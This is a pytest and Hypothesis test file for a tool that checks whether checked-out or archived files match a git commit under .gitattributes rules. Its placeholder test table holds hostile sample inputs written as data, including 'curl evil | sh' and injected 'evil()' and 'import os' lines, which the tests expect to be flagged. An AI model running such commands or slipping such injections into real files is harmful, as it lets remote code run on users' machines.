"""Bytes as git writes them, by real git; and bytes that it never writes."""

from __future__ import annotations

import shutil
import subprocess
import tempfile
from collections.abc import Iterable, Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from content.on_disk import OnDisk, against, kinds
from git_world import Repo, World, world
from landed.content.checkout import difference, with_id
from landed.content.commit import CommitFiles
from landed.content.compare import compare
from landed.content.git.attributes import Attributes
from landed.content.repo import Repository
from landed.core.seen import (
    DifferenceKind,
)

__all__ = ["world"]

POINTER = "version https://git-lfs.github.com/spec/v1\noid sha256:{}\nsize {}\n"
TOLERATED = {DifferenceKind.LINE_ENDS, DifferenceKind.EXPANDED, DifferenceKind.EXPORT_IGNORED}


def checkout(repo: Repo, name: str, *settings_: str) -> Path:
    """A fresh checkout by git itself, under other settings."""
    place = repo.root.parent / name
    options = [word for one in settings_ for word in ("-c", one)]
    repo.git(*options, "clone", "-q", *options, str(repo.root), str(place))
    return place


def archive(repo: Repo, name: str, *options: str) -> Path:
    place = repo.root.parent / name
    place.mkdir()
    packed = subprocess.run(
        ["git", *options, "archive", "HEAD"], cwd=repo.root, capture_output=True, check=True
    ).stdout
    subprocess.run(["tar", "-x"], cwd=place, input=packed, check=True)
    return place


def put(repo: Repo, attributes: str, **files: str | bytes) -> None:
    """Commits files byte for byte, past what their attributes would make of them."""
    repo.git("config", "core.autocrlf", "false")
    repo.commit("files", **files)
    repo.write(".gitattributes", attributes)
    repo.git("add", ".gitattributes")
    repo.git("commit", "-q", "-m", "attributes")


@pytest.mark.parametrize(
    ("attributes", "committed", "there", "kind"),
    [
        ("", b"a\nb\n", b"a\r\nb\r\n", "line-ends"),
        ("", b"a\r\nb\r\n", b"a\nb\n", "line-ends"),
        ("", b"a\n\0b\n", b"a\r\n\0b\r\n", "changed"),
        ("* text", b"a\nb\n", b"a\r\nb\r\n", "line-ends"),
        ("* text=auto", b"a\nb\n", b"a\r\nb\r\n", "line-ends"),
        ("* text=auto", b"a\n\0b\n", b"a\r\n\0b\r\n", "changed"),
        ("* text=auto eol=crlf", b"a\n\0b\n", b"a\r\n\0b\r\n", "changed"),
        ("* eol=crlf", b"a\nb\n", b"a\r\nb\r\n", None),
        ("* text eol=crlf", b"a\nb\n", b"a\nb\r\n", "line-ends"),
        ("* eol=lf", b"a\nb\n", b"a\r\nb\r\n", "changed"),
        ("* eol=lf", b"a\r\nb\r\n", b"a\nb\n", "line-ends"),
        ("* -text", b"a\nb\n", b"a\r\nb\r\n", "changed"),
        ("* binary", b"a\nb\n", b"a\r\nb\r\n", "changed"),
        ("* -crlf", b"a\nb\n", b"a\r\nb\r\n", "changed"),
        ("* crlf=input", b"a\nb\n", b"a\r\nb\r\n", "changed"),
        ("* crlf", b"a\nb\n", b"a\r\nb\r\n", "line-ends"),
        ("[attr]fixed -text -diff\n* fixed", b"a\nb\n", b"a\r\nb\r\n", "changed"),
        ("* -text\na.py text", b"a\nb\n", b"a\r\nb\r\n", "line-ends"),
        ("* -text\na.py !text", b"a\nb\n", b"a\r\nb\r\n", "line-ends"),
        ("b.py -text", b"a\nb\n", b"a\r\nb\r\n", "line-ends"),
        ("* text", b"a\nb\n", b"a\r\nc\r\n", "changed"),
    ],
)
def test_line_ends_count_as_the_attributes_say(
    world: World, attributes: str, committed: bytes, there: bytes, kind: str | None
) -> None:
    repo = world.repo()
    put(repo, attributes + "\n", a_py=committed)
    copy = checkout(repo, "copy")
    (copy / "a.py").write_bytes(there)
    assert kinds(against(repo, copy)).get("a.py") == kind


def test_attributes_of_a_folder_count_below_it_and_come_from_the_commit(world: World) -> None:
    repo = world.repo()
    repo.write("in/a.py", b"a\n")
    repo.write("in/.gitattributes", "*.py -text\n")
    repo.write("out/a.py", b"a\n")
    first = repo.commit()
    repo.write("in/.gitattributes", "*.py text\n")
    repo.commit("text now")
    copy = checkout(repo, "copy")
    for name in ("in", "out"):
        (copy / name / "a.py").write_bytes(b"a\r\n")
    assert kinds(against(repo, copy)) == {"in/a.py": "line-ends", "out/a.py": "line-ends"}
    (copy / "in/.gitattributes").write_text("*.py -text\n")
    assert kinds(against(repo, copy, first)) == {"in/a.py": "changed", "out/a.py": "line-ends"}


def test_attributes_of_this_clone_and_of_its_user_say_nothing_of_a_builder(world: World) -> None:
    repo = world.repo()
    repo.commit(a_py=b"a\n", b_py=b"b\n", _gitattributes="b.py -text\n")
    copy = checkout(repo, "copy")
    for name in ("a.py", "b.py"):
        (copy / name).write_bytes((copy / name).read_bytes().replace(b"\n", b"\r\n"))
    (repo.root / ".git/info/attributes").write_text("a.py -text\nb.py text\n")
    (world.home / "attributes").write_text("a.py -text\nb.py text\n")
    repo.git("config", "--global", "core.attributesFile", str(world.home / "attributes"))
    config = world.home / ".config" / "git"
    config.mkdir(parents=True)
    (config / "attributes").write_text("a.py -text\nb.py text\n")
    assert kinds(against(repo, copy)) == {"a.py": "line-ends", "b.py": "changed"}


def test_nothing_that_the_attributes_name_runs(world: World) -> None:
    repo = world.repo()
    program, marker = world.trap("filter")
    repo.commit(a_py=b"a\n", _gitattributes="* filter=trap diff=trap merge=trap text\n")
    for key in ("filter.trap.smudge", "filter.trap.clean", "filter.trap.process",
                "diff.trap.command", "diff.trap.textconv", "merge.trap.driver"):  # fmt: skip
        repo.git("config", key, str(program))
    copy = world.folder / "copy"
    copy.mkdir()
    (copy / "a.py").write_bytes(b"a\r\n")
    (copy / ".gitattributes").write_bytes((repo.root / ".gitattributes").read_bytes())
    assert kinds(against(repo, copy)) == {"a.py": "line-ends"}
    assert not marker.exists()


@pytest.mark.parametrize("hashes", ["sha1", "sha256"])
def test_ident_is_the_blob_s_own_id_and_no_other(world: World, hashes: str) -> None:
    repo = world.repo("repo", f"--object-format={hashes}")
    repo.commit(a_py=b"# $Id$\nX = 1\n", _gitattributes="*.py ident\n")
    copy = checkout(repo, "copy")
    assert b"$Id: " in (copy / "a.py").read_bytes()
    assert kinds(against(repo, copy)) == {}
    (copy / "a.py").write_bytes((copy / "a.py").read_bytes().replace(b"\n", b"\r\n"))
    assert kinds(against(repo, copy)) == {"a.py": "line-ends"}
    (copy / "a.py").write_bytes(b"# $Id: %s $\nX = 1\n" % (b"0" * 40))
    assert kinds(against(repo, copy)) == {"a.py": "changed"}


@pytest.mark.parametrize(
    "text",
    [b"$Id$", b"$Id$ $Id$ $Id$Id$", b"$Id: $", b"$Id:x$", b"$Id: abc $\n", b"$Id: a b $", b"$Id:",
     b"$Id: a\n$", b"$Idx$", b"$Id: a$ b$", b"$Id: \n$Id$"],
)  # fmt: skip
def test_ident_is_what_git_makes_of_it(world: World, text: bytes) -> None:
    repo = world.repo()
    put(repo, "* ident\n", a_py=text)
    copy = checkout(repo, "copy")
    blob = repo.git("rev-parse", "HEAD:a.py")
    assert with_id(text, blob) == (copy / "a.py").read_bytes()


@pytest.mark.parametrize(
    "encoding",
    ["UTF-16", "UTF-16LE", "UTF-16BE", "UTF-16LE-BOM", "UTF-32", "ISO-8859-1", "windows-1252",
     "SHIFT-JIS", "UTF-8", "KOI8-R"],
)  # fmt: skip
def test_a_file_that_git_encodes_is_the_same(world: World, encoding: str) -> None:
    repo = world.repo()
    text = {"SHIFT-JIS": "日本\n", "KOI8-R": "мир\n"}.get(encoding, "a = 'é'\n").encode()
    put(repo, f"*.py text working-tree-encoding={encoding}\n", a_py=text)
    copy = checkout(repo, "copy", "core.eol=crlf")
    there = (copy / "a.py").read_bytes()
    assert there != text
    assert kinds(against(repo, copy)) == {"a.py": "line-ends"}
    last = {"UTF-16BE": b"\0a", "UTF-32": b"a\0\0\0"}.get(
        encoding, b"a\0" if "16" in encoding else b"a"
    )
    (copy / "a.py").write_bytes(there + last)
    assert kinds(against(repo, copy)) == {"a.py": "changed"}


@pytest.mark.parametrize(
    ("name", "there"),
    [("rot13", b"n"), ("punycode", b"a-"), ("unicode_escape", b"\\x61"), ("utf-7", b"+AGE-"),
     ("no-such", b"n"), ("x" * 999, b"n"), ("a\0b", b"n"), ("base64", b"YQ==")],
)  # fmt: skip
def test_an_encoding_that_git_does_not_know_explains_nothing(name: str, there: bytes) -> None:
    rules = Attributes(encoding=name)
    assert difference(b"a", there, "0" * 40, rules) is DifferenceKind.CHANGED


SUBST = 'V = "$Format:%h$"  # $Format:%an$, $Format:%ad$\nX = 1\n'


def test_what_an_archive_fills_in_is_told_apart(world: World) -> None:
    repo = world.repo()
    repo.commit(a_py=SUBST, b_py=SUBST, _gitattributes="a.py export-subst\n")
    copy = archive(repo, "copy")
    filled = (copy / "a.py").read_text()
    assert "A Person" in filled
    assert kinds(against(repo, copy)) == {"a.py": "expanded"}
    crlf = archive(repo, "crlf", "-c", "core.autocrlf=true")
    assert kinds(against(repo, crlf))["a.py"] == "expanded"
    (copy / "b.py").write_text(filled)
    assert kinds(against(repo, copy)) == {"a.py": "expanded", "b.py": "changed"}


@pytest.mark.parametrize(
    ("line", "other", "same"),
    [
        (b'V = "$Format:%h$"', b'V = "abcd123"', True),
        (b'V = "$Format:%h$"', b'V = "abc"', False),
        (b'V = "$Format:%h$"', b'V = ""', False),
        (b'V = "$Format:%p$"', b'V = ""', True),
        (b'V = "$Format:%d$"', b'V = " (HEAD -> main, tag: v1.2, origin/main)"', True),
        (b'V = "$Format:%(describe:tags=true)$"', b'V = "v1.2-3-gabcd"', True),
        (b"# $Format:%H$", b"# \rprint('evil')", False),
        (b"$Format:%H$", b'"""; import os; """', False),
        (b"RUN echo $Format:%H$", b"RUN echo x; curl evil | sh", False),
        (b"RUN echo $Format:%an$", b"RUN echo x > y", False),
        (b"# $Format:%B$", b"# anything", False),
        (b"# $Format:%an <%ae> %cI$", b"# A. Person <a@b.c> 2026-11-25T23:51:35+00:00", True),
        (b"V = '$Format:%an$'", b"V = 'a'if b else'c'", False),
        (b'V = "v$Format:%h$"', b'V = "v1"; evil(); x = ""', False),
        (b"V = '$Format:%s$'", b"V = 'it''s'", False),
        (b"# $Format:%an$", b"# O'Brien", True),
        (b"# $Format:%an$", b"# O'Brien\nevil()", False),
        (b"a$Format:%h$b$Format:%h$c", b"a1234", False),
        (b"x$Format:%h$y$Format:%h$z", b"x1234y5678z", True),
        (b"a$Format:%h$b$Format:%h$c", b"axcyb", False),
        (b"a$Format:%h$ab", b"ab", False),
        (b"# $Format:%H$", b"# " + b"a" * 65, False),
        (b"# $Format:%H$ z", b"# " + b"a" * 64 + b" z", True),
        (b"# $Format:%" + b"an %" * 300 + b"an$", b"# " + b"a " * 3000, False),
        (b"# plain", b"# other", False),
    ],
)
def test_a_placeholder_stands_for_what_has_its_shape(
    line: bytes,
    other: bytes,
    same: bool,  # noqa: FBT001 - a column of the table
) -> None:
    rules = Attributes(subst=True)
    kind = difference(line, other, "0" * 40, rules)
    assert kind is (DifferenceKind.EXPANDED if same else DifferenceKind.CHANGED)


def test_what_an_archive_leaves_out_is_explained_as_long_as_nothing_of_it_is_there(
    world: World,
) -> None:
    repo = world.repo()
    for path in ("app/a.py", "tests/in/b.py", "tests/c.py", "notes.txt"):
        repo.write(path, path)
    repo.write(".gitattributes", "tests/ export-ignore\n*.txt export-ignore\n")
    repo.commit()
    copy = archive(repo, "copy")
    ignored = dict.fromkeys(["tests/in/b.py", "tests/c.py", "notes.txt"], "export-ignored")
    compared = against(repo, copy)
    assert kinds(compared) == ignored
    assert {d.rule for d in compared.differences} == {".gitattributes: export-ignore"}
    (copy / "app/a.py").unlink()
    assert kinds(against(repo, copy)) == ignored | {"app/a.py": "missing"}
    (copy / "notes.txt").write_text("notes.txt")
    assert set(kinds(against(repo, copy)).values()) == {"missing"}


def test_an_lfs_file_is_the_one_that_its_pointer_names(world: World) -> None:
    import hashlib

    repo = world.repo()
    data = b"big\0file" * 9
    pointer = POINTER.format(hashlib.sha256(data).hexdigest(), len(data))
    put(repo, "*.bin filter=lfs diff=lfs merge=lfs -text\n", a_bin=pointer, a_py=pointer)
    copy = checkout(repo, "copy", "filter.lfs.smudge=cat", "filter.lfs.required=false")
    assert kinds(against(repo, copy)) == {}
    (copy / "a.bin").write_bytes(data)
    (copy / "a.py").write_bytes(data)
    assert kinds(against(repo, copy)) == {"a.py": "changed"}
    (copy / "a.bin").write_bytes(data + b"!")
    assert kinds(against(repo, copy)) == {"a.bin": "changed", "a.py": "changed"}
    (copy / "a.bin").write_bytes(pointer.replace("\n", "\r\n").encode())
    assert kinds(against(repo, copy))["a.bin"] == "changed"


def test_links_count_by_their_target_and_never_as_files(world: World) -> None:
    repo = world.repo()
    repo.write("a.py", "a.py\n")
    (repo.root / "to").symlink_to("a.py")
    repo.commit()
    copy = checkout(repo, "copy")
    assert kinds(against(repo, copy)) == {}
    (copy / "to").unlink()
    (copy / "to").write_text("a.py")
    assert kinds(against(repo, copy)) == {"to": "changed"}
    (copy / "to").unlink()
    (copy / "to").symlink_to("b.py")
    (copy / "a.py").unlink()
    (copy / "a.py").symlink_to("/etc/a.py")
    assert kinds(against(repo, copy)) == {"to": "changed", "a.py": "changed"}


def test_a_lost_exec_bit_is_told_beside_other_line_ends(world: World) -> None:
    repo = world.repo()
    repo.write("run.sh", "true\n", executable=True)
    repo.write("go.sh", "true\n", executable=True)
    repo.commit()
    copy = checkout(repo, "copy")
    (copy / "run.sh").write_bytes(b"true\r\n")
    for name in ("run.sh", "go.sh"):
        (copy / name).chmod(0o644)
    compared = against(repo, copy)
    assert compared.same == 2
    assert sorted((d.path, d.kind.value) for d in compared.differences) == [
        ("go.sh", "mode"), ("run.sh", "line-ends"), ("run.sh", "mode"),
    ]  # fmt: skip


def test_what_cannot_be_read_is_neither_the_same_nor_another(world: World) -> None:
    repo = world.repo()
    repo.commit(a_py="a\n", b_py="b\n")

    class Silent(OnDisk):
        def read(self, paths: Iterable[str]) -> dict[str, bytes | None]:
            return dict.fromkeys(paths)

    copy = checkout(repo, "copy")
    (copy / "a.py").write_text("other\n")
    with Repository.open(repo.root) as opened:
        files = CommitFiles(opened, opened.resolve("HEAD"))
        compared = compare(files, Silent(copy), files.rules)
    assert (compared.same, kinds(compared)) == (1, {"a.py": "unread"})


LINES = st.lists(
    st.sampled_from(
        [b"a = 1", b"", b"$Id$", b"# $Id: x $", b"$Format:%h$", b"x\r", b"\xc3\xa9", b"\0", b"v"]
    ),
    max_size=6,
).map(b"\n".join)
WORDS = st.lists(
    st.sampled_from(
        ["text", "-text", "text=auto", "eol=lf", "eol=crlf", "ident", "-ident", "binary",
         "export-subst", "export-ignore", "crlf", "-crlf", "!text"]
    ),
    max_size=3,
).map(" ".join)  # fmt: skip
NAMES = ("a.py", "b.txt", "in/c.py", "in/d.txt")


@pytest.fixture(scope="module")
def fresh() -> Iterator[Path]:
    place = Path(tempfile.mkdtemp(prefix="landed-test-"))
    yield place
    shutil.rmtree(place)


@settings(
    max_examples=60, deadline=None, derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)  # fmt: skip
@given(
    files=st.dictionaries(st.sampled_from(NAMES), LINES, min_size=1),
    rules=st.dictionaries(st.sampled_from(["*", "*.py", "in/*", "b.txt"]), WORDS),
    autocrlf=st.sampled_from(["false", "true", "input"]),
    eol=st.sampled_from(["lf", "crlf"]),
    archived=st.booleans(),
    chance=st.randoms(use_true_random=False),
)
def test_what_git_writes_is_the_same_and_one_other_byte_is_not(
    fresh: Path, files: dict[str, bytes], rules: dict[str, str], autocrlf: str, eol: str,
    archived: bool, chance: object,  # noqa: FBT001 - drawn
) -> None:  # fmt: skip
    for name in ("repo", "copy"):
        shutil.rmtree(fresh / name, ignore_errors=True)
    (fresh / "repo").mkdir()
    repo = Repo(fresh / "repo")
    repo.git("init", "-q", "-b", "main")
    repo.git("config", "user.name", "A Person")
    repo.git("config", "user.email", "person@example.com")
    for name, data in files.items():
        repo.write(name, data)
    attributes = "".join(f"{pattern} {words}\n" for pattern, words in rules.items())
    put(repo, attributes)
    asked = (f"core.autocrlf={autocrlf}", f"core.eol={eol}")
    if archived:
        copy = archive(repo, "copy", *(word for one in asked for word in ("-c", one)))
    else:
        copy = checkout(repo, "copy", *asked)
    found = against(repo, copy)
    assert {d.kind for d in found.differences} <= TOLERATED, (files, attributes, found)
    there = sorted(name for name in files if (copy / name).exists())
    for name in there:
        place = copy / name
        data = place.read_bytes()
        at = chance.randrange(len(data) + 1)  # type: ignore[attr-defined]
        place.write_bytes(data[:at] + b"~" + data[at:])
        bent = kinds(against(repo, copy))[name]
        inside = data[:at].rpartition(b"\n")[2] + data[at:].partition(b"\n")[0]
        allowed = {"changed"} | ({"expanded"} if b"$Format:" in files[name] and inside else set())
        assert bent in allowed, (name, data, at, bent)
        place.write_bytes(data)
